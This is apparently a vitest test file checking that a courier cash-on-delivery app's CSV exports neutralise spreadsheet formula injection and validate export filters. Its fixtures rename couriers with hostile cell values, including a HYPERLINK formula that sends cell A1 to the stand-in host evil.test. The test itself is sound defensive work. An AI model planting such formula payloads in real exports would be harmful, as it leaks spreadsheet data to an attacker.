import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, PUSH_RATES, type TestContext } from '../../../test/app.js';
import { dakiyaFile, get, importRemittances, shipCod } from '../../../test/kit/cod.js';
import { BLUEDART_AIR, DELHIVERY_SURFACE, DTDC, SHADOWFAX } from '../../../test/kit/couriers.js';
import { V1 } from '../../../test/kit/http.js';
import { merchantWithCityWarehouse } from '../../../test/kit/warehouses.js';

// CSV exports opened in a spreadsheet: a text cell starting with =, +, - or @ would run as a
// formula. The operator's catalogue names the couriers, so a hostile name is the way such a cell
// reaches an export. On both engines: the rows, their amounts and their order are each engine's
// query, so a cell written differently on one would be missed by testing the other.

const HOSTILE: Record<string, string> = {
  [SHADOWFAX]: '=HYPERLINK("http://evil.test/?"&A1,"Shadowfax")',
  [DELHIVERY_SURFACE]: '+Delhivery',
  [DTDC]: '-DTDC',
  [BLUEDART_AIR]: '@Blue Dart',
};

let ctx: TestContext;
let apiKey: string;
const awbs: Record<string, string> = {};

beforeAll(async () => {
  const services = PUSH_RATES.catalogue.services.map((s) => (HOSTILE[s.id] ? { ...s, name: HOSTILE[s.id]! } : s));
  ctx = await createTestApp({
    rates: {
      ...PUSH_RATES,
      catalogue: { ...PUSH_RATES.catalogue, services, byId: new Map(services.map((s) => [s.id, s])) },
    },
  });
  const owner = await merchantWithCityWarehouse(ctx);
  apiKey = owner.apiKey;
  for (const carrierId of Object.keys(HOSTILE))
    [awbs[carrierId]] = (await shipCod(ctx, owner, [998], { carrierId })) as [string];
  ctx.clock.set('2026-12-10T06:30:00.000Z');
  await importRemittances(ctx, apiKey, dakiyaFile([[awbs[SHADOWFAX]!, '950.50', 'UTR1', '2026-12-01']]));
  // The other three are unpaid past their days: three missing_from_remittance beside the short payment.
  await ctx.app.codOverdueCheck.runOnce();
});
afterAll(() => ctx.close());

const rowsOf = (csv: string) => csv.split('\r\n').filter((line) => line !== '');

describe('CSV exports', () => {
  it('neutralise cells starting with =, +, - and @ with an apostrophe, and quote what needs quoting', async () => {
    const response = await get(ctx, apiKey, `${V1}/cod/receivables/export`);
    expect(response.statusCode).toBe(200);
    const rows = rowsOf(response.body);
    expect(rows[0]).toBe(
      'awb,carrier_id,courier_name,cod_amount,delivered_at,expected_date,state,received_amount,utr,remittance_date,overdue',
    );
    const names = Object.fromEntries(
      rows.slice(1).map((row) => [row.split(',')[0], row.split(',').slice(2).join(',')]),
    );
    expect(names[awbs[SHADOWFAX]!]).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.test\/\?""&A1,""Shadowfax""\)",998,/);
    expect(names[awbs[DELHIVERY_SURFACE]!]).toMatch(/^'\+Delhivery,998,/);
    expect(names[awbs[DTDC]!]).toMatch(/^'-DTDC,998,/);
    expect(names[awbs[BLUEDART_AIR]!]).toMatch(/^'@Blue Dart,998,/);
    for (const row of rows.slice(1)) expect(row).not.toMatch(/,[=+\-@]/);
  });

  it('keep amounts numbers: a negative difference is written as the number it is', async () => {
    const discrepancies = rowsOf((await get(ctx, apiKey, `${V1}/cod/discrepancies/export`)).body);
    expect(discrepancies).toHaveLength(1 + Object.keys(HOSTILE).length);
    const short = discrepancies.find((row) => row.startsWith('short_paid,'))!;
    expect(short).toMatch(new RegExp(`^short_paid,${awbs[SHADOWFAX]},${SHADOWFAX},998,950\\.5,-47\\.5,,`));
    const remittances = rowsOf((await get(ctx, apiKey, `${V1}/cod/remittances/export`)).body);
    expect(remittances[1]).toMatch(new RegExp(`^${awbs[SHADOWFAX]},${SHADOWFAX},"'=HYPERLINK\\(`));
    const cycles = rowsOf((await get(ctx, apiKey, `${V1}/cod/reconciliation/export`)).body);
    expect(cycles.slice(1).every((row) => /^2026-\d\d-\d\d,CAR[A-Z0-9]+,("'|')[=+\-@]/.test(row))).toBe(true);
  });

  it('refuse a bad filter on an export with a 400 naming it', async () => {
    const response = await get(ctx, apiKey, `${V1}/cod/remittances/export?from=2026-12-05&to=2026-12-01&limit=5`);
    expect(response.statusCode).toBe(400);
    expect(response.json().details.map((d: { field: string }) => d.field)).toEqual(['limit']);
    const order = await get(ctx, apiKey, `${V1}/cod/remittances/export?from=2026-12-05&to=2026-12-01`);
    expect(order.statusCode).toBe(400);
    expect(order.json().details).toEqual([{ field: 'to', message: 'to must not be before from' }]);
  });
});
